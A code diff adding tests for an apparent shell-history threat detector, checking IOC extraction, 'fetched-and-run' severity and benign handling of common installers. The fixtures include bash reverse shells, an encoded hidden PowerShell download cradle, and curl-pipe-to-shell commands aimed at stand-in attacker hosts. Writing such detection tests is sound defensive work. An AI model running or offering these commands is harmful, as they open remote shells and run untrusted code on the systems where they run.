@@ -211,3 +211,68 @@ test('each kind that rules speak about carries a control: a planted entry of it 
   // No rule speaks about who logged in well: nothing is planted, and nothing is claimed.
   expect(ruleIn(record, 'wtmp')).toBeUndefined();
 });
+
+test('what grave commands speak to is named for others to judge, also where it was hidden; what lies inside is not', () => {
+  const hidden = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le');
+  const history = judgeHistory(
+    [
+      'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1',
+      'wget http://c2.example.top/x -O /tmp/x',
+      `powershell -nop -w hidden -enc ${hidden.toString('base64')}`,
+      'bash -i >& /dev/tcp/192.168.7.5/4444 0>&1',
+      'bash -i >& /dev/tcp/git.corp.internal/4444 0>&1',
+      'curl https://api.example.com/a',
+    ].join('\n'),
+  );
+  expect(history.iocs.map(({ type, value }) => `${type} ${value}`)).toEqual([
+    'ip 198.51.100.23',
+    'ip 203.0.113.9',
+    'url http://203.0.113.9/a',
+    'url http://c2.example.top/x',
+  ]);
+});
+
+test.each([
+  'curl -fsSL https://evil.example.top/x.sh | sh',
+  'wget -qO- https://evil.example.top/x | sudo -E bash -s -- -y',
+  'sh -c "$(curl -fsSL https://evil.example.top/i.sh)"',
+  'bash <(curl -s https://evil.example.top/i)',
+])('what runs unseen what it downloads is slight by itself, and more beside an attack: %s', (command) => {
+  const alone = judgeHistory(`ls\n${command}\n`);
+  expect(alone).toMatchObject({
+    verdict: 'suspicious',
+    severity: 'low',
+    iocs: [],
+    mitre_techniques: ['T1059.004', 'T1105'],
+    findings: [{ rule: 'history/fetched-and-run', evidence: [{ locator: 'line 2' }] }],
+  });
+  const beside = judgeHistory(`${command}\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n`);
+  expect(beside.findings.map(({ rule, severity }) => [rule, severity])).toContainEqual([
+    'history/fetched-and-run',
+    'medium',
+  ]);
+});
+
+test('installers that are run so by everybody, and other shells that a download goes to, are nothing', () => {
+  const ordinary = [
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+    'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh | bash',
+    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+    'curl -s https://api.example.com/a | jq .',
+    'curl -s https://api.example.com/install.sh | less',
+  ];
+  expect(judgeHistory(ordinary.join('\n'))).toMatchObject({ verdict: 'benign', findings: [] });
+});
+
+test('a history in UTF-16, as PowerShell writes it, is read with and without its mark', () => {
+  const text = 'whoami\r\nls -la /srv\r\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\r\n';
+  for (const wide of [
+    Buffer.from(`\ufeff${text}`, 'utf16le'),
+    Buffer.from(`\ufeff${text}`, 'utf16le').swap16(),
+    Buffer.from(text, 'utf16le'),
+  ])
+    expect(judgeArtifact(readArtifact(wide, '.bash_history'))).toMatchObject({
+      findings: [{ rule: 'command/reverse-shell', evidence: [{ locator: 'line 3' }] }],
+      checked: [{ corpus: { items: 3, items_read: 3 } }],
+    });
+});
